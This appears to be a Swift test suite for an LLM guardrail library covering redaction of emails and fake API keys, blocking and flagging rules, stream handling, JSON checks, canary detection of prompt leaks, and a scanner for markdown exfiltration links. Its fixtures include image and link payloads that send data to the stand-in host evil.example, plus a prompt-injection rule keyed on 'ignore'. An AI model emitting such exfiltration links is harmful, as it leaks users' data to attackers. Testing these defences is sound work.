import Testing

@testable import GatehousePolicy

/// Finds every occurrence of a word (a stand-in scanner, so these tests check the guard, not a scanner).
struct WordScanner: TextScanner {
    let word: String
    let type: FindingType

    func scan(_ text: String) -> [Finding] {
        let bytes = Array(text.utf8)
        let needle = Array(word.utf8)
        var findings: [Finding] = []
        var index = 0
        while index + needle.count <= bytes.count {
            if bytes[index..<(index + needle.count)].elementsEqual(needle) {
                findings.append(Finding(type, index..<(index + needle.count)))
                index += needle.count
            } else {
                index += 1
            }
        }
        return findings
    }
}

@Suite("Guardrails: verdicts, redaction, placeholders and streams")
struct TextGuardTests {
    let email = GuardrailRule(kind: .pii, action: .redact, scanner: WordScanner(word: "ann@example.com", type: .email))
    let key = GuardrailRule(
        kind: .secrets, action: .redact, scanner: WordScanner(word: "sk-fake-key", type: .openAIKey))
    let blocker = GuardrailRule(
        kind: .secrets, action: .block, scanner: WordScanner(word: "sk-fake-key", type: .openAIKey))
    let flagger = GuardrailRule(
        kind: .promptInjection, action: .flag, scanner: WordScanner(word: "ignore", type: .promptInjection))

    @Test("personal data becomes stable placeholders that the answer gets back; secrets a marker that it does not")
    func redaction() {
        var vault = PlaceholderVault()
        var verdict = GuardrailVerdict()
        let text = "mail ann@example.com, key sk-fake-key, again ann@example.com"
        let cleaned = TextGuard.apply([email, key], to: text, direction: .input, vault: &vault, verdict: &verdict)
        #expect(cleaned == "mail [EMAIL_1], key [REDACTED_OPENAI_KEY], again [EMAIL_1]")
        #expect(vault.restore("Dear [EMAIL_1], [EMAIL_2] [x] [") == "Dear ann@example.com, [EMAIL_2] [x] [")
        #expect(verdict.action == .redact && verdict.blocked == nil)
        #expect(verdict.summary == "input:pii:email:redact:2,input:secrets:openai_key:redact:1")
    }

    @Test("a blocking rule blocks, a flagging one only records, and neither changes the text")
    func blockAndFlag() {
        var vault = PlaceholderVault()
        var verdict = GuardrailVerdict()
        let text = "ignore this: sk-fake-key"
        #expect(
            TextGuard.apply([flagger, blocker], to: text, direction: .input, vault: &vault, verdict: &verdict) == text)
        #expect(verdict.blocked?.type == .openAIKey)
        #expect(verdict.entries.map(\.action) == [.flag, .block])
        #expect(verdict.action == .block)
    }

    @Test("the stricter of two policies applies: both sets of rules run")
    func combined() {
        let a = GuardrailPolicy(name: "a", input: [flagger], tokenLimit: 100)
        let b = GuardrailPolicy(name: "b", input: [blocker], tokenLimit: 50, canary: .block)
        let both = a.combined(with: b)
        #expect(both.input.count == 2 && both.tokenLimit == 50 && both.canary == .block)
        #expect(a.combined(with: nil).name == "a")
    }

    @Test("a stream's placeholders are restored even when split across deltas, holding back no more than one")
    func streamRestore() {
        var vault = PlaceholderVault()
        _ = vault.placeholder(for: "ann@example.com", type: .email)
        var guardrail = StreamTextGuard(rules: [], vault: vault)
        var verdict = GuardrailVerdict()
        var out = ""
        for delta in ["Hello [EM", "AIL_", "1], how", " are [you]", " today"] {
            out += guardrail.feed(delta, verdict: &verdict)
        }
        #expect(out == "Hello ann@example.com, how are [you] today")
        #expect(guardrail.finish(verdict: &verdict) == "")
        var partial = StreamTextGuard(rules: [], vault: vault)
        #expect(partial.feed("plain text and [E", verdict: &verdict) == "plain text and ")
        #expect(partial.finish(verdict: &verdict) == "[E")
    }

    @Test("a secret split across stream deltas is redacted whole")
    func streamRedact() {
        var guardrail = StreamTextGuard(rules: [key], vault: PlaceholderVault(), window: 32)
        var verdict = GuardrailVerdict()
        var out = ""
        for delta in ["here is sk-fa", "ke-", "key and more words ", "that follow it to the end of the window"] {
            out += guardrail.feed(delta, verdict: &verdict)
        }
        out += guardrail.finish(verdict: &verdict)
        #expect(out == "here is [REDACTED_OPENAI_KEY] and more words that follow it to the end of the window")
        #expect(verdict.entries.first?.count == 1)
    }

    @Test("a blocking output rule stops the stream: nothing after the finding goes out")
    func streamBlock() {
        var guardrail = StreamTextGuard(rules: [blocker], vault: PlaceholderVault(), window: 16)
        var verdict = GuardrailVerdict()
        var out = guardrail.feed("a harmless opening sentence, then ", verdict: &verdict)
        out += guardrail.feed("sk-fake-key leaks", verdict: &verdict)
        out += guardrail.finish(verdict: &verdict)
        #expect(guardrail.isBlocked)
        #expect(!out.contains("sk-fake"))
        #expect(verdict.blocked?.direction == .output)
    }

    @Test("JSON mode: a blocking check holds the stream back and refuses a truncated answer; valid JSON goes out")
    func streamJSON() {
        var verdict = GuardrailVerdict()
        var truncated = StreamTextGuard(rules: [], vault: PlaceholderVault(), json: .block)
        #expect(truncated.feed(#"{"model": "m", "ec"#, verdict: &verdict) == "")
        #expect(truncated.finish(verdict: &verdict, checksJSON: true) == "")
        #expect(truncated.isBlocked)
        #expect(verdict.blocked?.type == .invalidJSON && verdict.blocked?.kind == .json)

        var whole = StreamTextGuard(rules: [], vault: PlaceholderVault(), json: .block)
        var verdict2 = GuardrailVerdict()
        var out = whole.feed(#"{"a": [1, "#, verdict: &verdict2)
        out += whole.feed("2]}", verdict: &verdict2)
        out += whole.finish(verdict: &verdict2, checksJSON: true)
        #expect(out == #"{"a": [1, 2]}"# && verdict2.isEmpty && !whole.isBlocked)

        // Flagged: the text streams as it comes and the verdict records the invalid answer.
        var flagged = StreamTextGuard(rules: [], vault: PlaceholderVault(), json: .flag)
        var verdict3 = GuardrailVerdict()
        #expect(flagged.feed("not json at all", verdict: &verdict3) == "not json at all")
        #expect(flagged.finish(verdict: &verdict3, checksJSON: true) == "")
        #expect(!flagged.isBlocked && verdict3.entries.first?.type == .invalidJSON && verdict3.blocked == nil)

        // Before a tool call the text is released without the check.
        var beforeTool = StreamTextGuard(rules: [], vault: PlaceholderVault(), json: .block)
        var verdict4 = GuardrailVerdict()
        _ = beforeTool.feed("Let me look", verdict: &verdict4)
        #expect(beforeTool.finish(verdict: &verdict4) == "Let me look" && verdict4.isEmpty)
    }

    @Test(
        "markdown images and data-carrying links to hosts outside the allowlist are found",
        arguments: [
            ("see ![chart](https://evil.example/c.png?d=SGVsbG8)", true),
            ("![logo](https://docs.example.com/logo.png)", false),
            ("![logo](https://cdn.docs.example.com/logo.png)", false),
            ("[click](https://evil.example/collect?q=secret)", true),
            ("[home](https://evil.example/)", false),
            ("![x](relative/path.png)", false),
            ("an array[0](x) in code", false),
        ])
    func markdownExfil(text: String, found: Bool) {
        let scanner = MarkdownExfilScanner(allowedHosts: ["docs.example.com"])
        #expect(!scanner.scan(text).isEmpty == found)
    }

    @Test("the canary is found wherever the answer echoes it, and each canary is new")
    func canary() {
        let canary = CanaryScanner.make()
        #expect(canary != CanaryScanner.make())
        let findings = CanaryScanner(canary: canary).scan("my instructions say \(canary) twice: \(canary)")
        #expect(findings.count == 2)
        #expect(CanaryScanner(canary: canary).scan("nothing here").isEmpty)
    }

    @Test("tokens are estimated at four bytes each, rounded up")
    func tokenEstimate() {
        #expect(TokenEstimate.tokens(inUTF8Bytes: 0) == 0)
        #expect(TokenEstimate.tokens(inUTF8Bytes: 1) == 1)
        #expect(TokenEstimate.tokens(inUTF8Bytes: 8) == 2)
    }
}
